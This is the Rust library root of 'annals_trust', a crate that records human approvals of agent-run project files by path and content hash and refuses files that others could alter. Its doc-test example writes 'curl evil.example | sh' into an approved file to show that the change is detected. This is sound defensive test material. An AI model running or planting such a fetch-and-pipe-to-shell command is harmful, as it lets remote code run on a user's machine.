//! Which project files a person has approved: what was approved is what is run.
//!
//! A project may bring a file that an agent is to run (`.envrc`, `.aish.lua`), and whoever wrote the project wrote
//! that file. So a person is asked once, and their answer is kept:
//!
//! > **Open once, read once, hash what was read, use what was hashed.**
//!
//! - An approval is of a path *and* its contents. Another content is another question.
//! - There is no yes without the bytes: [`Verdict::Allowed`] holds what was hashed, and nobody has to read the file again.
//! - Whoever else could change the file, a folder on the way to it, or the store itself makes the answer an
//!   [`Error::Unsafe`] with the reason: other owners, write permission for the group or for all, links of both kinds,
//!   FIFOs and devices, files too large to have been read by anybody.
//! - The newest decision about a path holds, a deny beats every allow, and a revocation is a record that is on the device when
//!   the call returns. A damaged line never turns into trust: what stands in front of it is in doubt.
//!
//! The store is aish's (`trusted-projects`), opened in place; our approvals are lines that aish reads, our denies and
//! revocations are lines that it passes over.
//!
//! # An example
//!
//! ```
//! # #[cfg(unix)]
//! # fn main() -> Result<(), Box<dyn std::error::Error>> {
//! # let folder = tempfile::tempdir()?.keep().canonicalize()?;
//! # let project = folder.join("project");
//! # std::fs::create_dir(&project)?;
//! # use std::os::unix::fs::PermissionsExt;
//! # let only_mine = |path: &std::path::Path, mode| std::fs::set_permissions(path, std::fs::Permissions::from_mode(mode));
//! # only_mine(&project, 0o700)?;
//! # let store = folder.join("trusted-projects");
//! use annals_trust::{Trust, Verdict};
//!
//! let file = project.join(".envrc");
//! std::fs::write(&file, "export FERRY=K7\n")?;
//! # only_mine(&file, 0o600)?;
//!
//! let trust = Trust::open(store);
//! assert!(matches!(trust.check(&file)?, Verdict::Unknown { .. }));
//!
//! // A person looks at it, and says yes to what they have seen.
//! let seen = trust.look(&file)?;
//! trust.allow(&file, seen.digest)?;
//! let Verdict::Allowed(approved) = trust.check(&file)? else { panic!() };
//! assert_eq!(approved.bytes(), b"export FERRY=K7\n");
//!
//! // Somebody changes it.
//! std::fs::write(&file, "curl evil.example | sh\n")?;
//! assert!(matches!(trust.check(&file)?, Verdict::Changed { .. }));
//! # std::fs::remove_dir_all(&folder)?;
//! # Ok(())
//! # }
//! # #[cfg(not(unix))]
//! # fn main() {}
//! ```
//!
//! # Root
//!
//! For the superuser, a file is safe only if it, and every folder on the way to it, belongs to the superuser: root never runs what
//! another user can change. For everybody else, what belongs to root is as safe as what is their own.
//!
//! # What it does not do
//!
//! - Look into what an approved file reads or runs in turn. Approve such files together ([`Trust::allow_set`]).
//! - Understand access control lists, or who is in a group: a file that its group may write is refused.
//! - Protect against somebody who already acts as the user, or as root.
//! - Work on Windows: nothing is approved there yet, because owners and permissions are not looked at.
//!
//! # Elsewhere
//!
//! - Programs: [`gate`](https://github.com/annals-rs/annals/blob/main/crates/trust/examples/gate.rs), asks a person, and runs what they have seen.
//! - [The format](https://github.com/annals-rs/annals/blob/main/docs/format.md#a-trust-store), byte for byte, and [what stays](https://github.com/annals-rs/annals/blob/main/docs/stability.md) as it is.
//! - [What survives what](https://github.com/annals-rs/annals/blob/main/docs/durability.md#when-a-store-asks), and the harnesses that try to make it false.

mod digest;
mod error;
mod file;
mod options;
mod record;
mod set;
mod state;
mod trust;
mod upwards;

pub use digest::Digest;
pub use error::{Error, Reason, Result};
pub use file::Found;
pub use options::TrustOptions;
pub use set::FILES_MAX;
pub use state::{DAMAGES_KEPT, Report};
pub use trust::{Approved, ChangedFile, Decided, Entry, FoundSet, SetVerdict, Trust, Verdict};
pub use upwards::find_upwards;
